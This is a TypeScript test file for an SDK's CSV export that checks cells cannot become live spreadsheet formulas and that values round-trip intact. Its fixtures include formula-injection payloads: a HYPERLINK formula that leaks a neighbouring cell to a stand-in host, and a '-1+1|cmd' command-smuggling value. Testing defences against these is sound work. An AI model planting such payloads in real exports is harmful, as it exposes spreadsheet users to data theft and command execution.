import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { cellText, csvText } from "../../../../sdk/node/tables/cells.js";
import { INPUTS, randomFrom } from "../../fuzzing.js";

/** What a spreadsheet may take for a formula, spaces before it too. */
const LIVE = /^\s*[=+\-@\t\r\n＝＋－＠]/u;

describe("cells of tables", () => {
  const texts = [
    "aoki@example.com",
    "花子",
    '=HYPERLINK("https://example.com/?"&B3)',
    "+81 90 1234 5678",
    "-1+1|cmd",
    "@SUM(1)",
    "\t=1",
    "\n=1",
    "＝1",
    "a,b;c",
    'say "hi"',
    "two\nlines",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    " =1+1",
    "\u00a0\u3000=1+1",
    "'plain",
    "'",
    "''",
    " 'plain ",
    "",
  ];

  const roundTrip = (all: readonly string[]) => {
    const text = csvText(
      ["reference", "link"],
      all.map((each) => [each, "x"]),
    );
    return parse<{ reference: string }>(text, { bom: true, columns: true }).map(({ reference }) => reference);
  };

  it("begins with the mark by which Excel knows UTF-8", () => {
    expect(csvText(["reference"], []).charCodeAt(0)).to.equal(0xfeff);
  });

  it("has no live formula, and is read back as it was", () => {
    const cells = roundTrip(texts);
    for (const cell of cells) expect(cell).not.to.match(LIVE);
    expect(cells.map(cellText)).to.deep.equal(texts);
  });

  it("has no live formula, and is read back as it was, whatever it is made of", () => {
    const random = randomFrom(11);
    const pieces = ["'", "=", "+", "-", "@", "＝", " ", "\u3000", "\t", "\n", '"', ",", ";", "a", "花", "1"];
    const all = Array.from({ length: INPUTS }, () =>
      Array.from({ length: random(7) }, () => pieces[random(pieces.length)] ?? "").join(""),
    );
    const cells = roundTrip(all);
    for (const cell of cells) expect(cell).not.to.match(LIVE);
    expect(cells.map(cellText)).to.deep.equal(all);
  });
});
